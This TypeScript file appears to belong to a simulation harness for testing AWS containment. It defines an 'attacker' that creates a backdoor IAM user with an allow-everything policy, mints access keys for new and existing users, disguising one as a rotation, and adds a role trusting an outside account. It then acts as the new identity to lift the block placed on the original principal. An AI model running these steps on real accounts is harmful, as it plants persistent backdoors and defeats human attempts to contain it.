import { z } from 'zod'
import type { Actor } from '../actor.js'
import { allowEverything } from './allow-everything.js'
import { type AttackerOptions, defineAttacker } from './attacker.js'
import { Holdings } from './holdings.js'
import { listAll } from './listing.js'
import { outsideAccountId } from './outside-account.js'
import { PolicyWatch } from './policy-watch.js'
import { Tasks } from './tasks.js'

const newUserName = 'svc-backup'
const newRoleName = 'svc-backup-restore'

/**
 * Makes itself new identities: a user with an access key and everything allowed, a second key for a user that exists,
 * and a role that trusts an account outside. Then it goes on as the new user, which no block on the old principal
 * touches, and tries to take the block away from there.
 */
export const mint = defineAttacker({
  name: 'mint',
  summary: 'makes itself a user, keys and a role that trusts outside, and deletes the block as the new user',
  create: (options) => {
    const holdings = new Holdings(options)
    const watch = PolicyWatch.ofPrincipal(options)
    watch.foreign(holdings.first)
    const tasks = new Tasks(mintingTasks(holdings, options))
    let isProvoked = options.actsAt === 'once'
    const step = () => {
      holdings.work()
      isProvoked ||= watch.foreign(holdings.first).length > 0
      if (isProvoked) tasks.attempt()
      for (const actor of holdings.gained()) watch.strip(actor)
    }
    return { step, credentials: () => holdings.credentials() }
  },
})

function mintingTasks(holdings: Holdings, options: AttackerOptions): (() => boolean)[] {
  const by = holdings.first
  const iam = (action: string, parameters: Record<string, string>) => by.call({ service: 'iam', action, parameters }).ok
  const policy = { PolicyName: 'backup', PolicyDocument: allowEverything }
  return [
    () => iam('CreateUser', { UserName: newUserName }),
    () => iam('PutUserPolicy', { UserName: newUserName, ...policy }),
    () => createKey(holdings, newUserName),
    () => candidates(by, options).some((userName) => createKey(holdings, userName)),
    () => iam('CreateRole', { RoleName: newRoleName, AssumeRolePolicyDocument: trustOutside(options) }),
    () => iam('PutRolePolicy', { RoleName: newRoleName, ...policy }),
  ]
}

function createKey(holdings: Holdings, UserName: string): boolean {
  const call = { service: 'iam', action: 'CreateAccessKey', parameters: { UserName } }
  return holdings.obtain(holdings.first, call) !== undefined
}

/** Whose second key it may be. Its own comes first: that one looks like a rotation. */
function candidates(by: Actor, { userName, otherUserName }: AttackerOptions): string[] {
  if (otherUserName !== undefined) return [otherUserName]
  const users = listAll(by, { action: 'ListUsers', field: 'Users', item: z.object({ UserName: z.string() }) }) ?? []
  const others = users.map(({ UserName }) => UserName).filter((name) => name !== newUserName && name !== userName)
  return [...(userName === undefined ? [] : [userName]), ...others]
}

function trustOutside({ account }: AttackerOptions): string {
  const Principal = { AWS: `arn:${account.partition}:iam::${outsideAccountId}:root` }
  return JSON.stringify({
    Version: '2012-10-17',
    Statement: [{ Effect: 'Allow', Principal, Action: 'sts:AssumeRole' }],
  })
}
